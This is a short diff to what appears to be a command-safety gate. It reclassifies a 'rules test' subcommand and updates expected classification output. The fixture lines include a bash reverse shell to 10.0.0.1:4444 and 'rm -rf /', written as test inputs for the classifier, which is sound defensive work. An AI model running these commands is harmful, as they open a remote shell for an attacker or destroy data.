@@ -63,8 +63,9 @@ PROGRAMS = (
                 "--json --mode= --sandbox= --shell= --cwd= --workspace= --home= --isolated --batch --color --no-color",
             ),
             Program("demo doctor aliases", "--json"),
+            Program("rules", "-h,--help", subcommands=(Program("test coverage", "-h,--help --color="),)),
             Program(
-                "trust approvals alias install uninstall pave rules run hook server learn export import config",
+                "trust approvals alias install uninstall pave run hook server learn export import config",
                 category=Category.Destroys,
                 phrase="changes what this gate lets through",
                 inert=True,
@@ -103,6 +104,7 @@ Destroys: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
 ReadsFilesystem: assent check 'rm -rf /'
 ReadsFilesystem: assent explain --json ls
 ReadsFilesystem: assent --version
+ReadsFilesystem: assent rules test
 Destroys: assent trust
 Destroys: ~/.local/bin/assent trust
 RunsProjectCode: ./bin/assent check ls
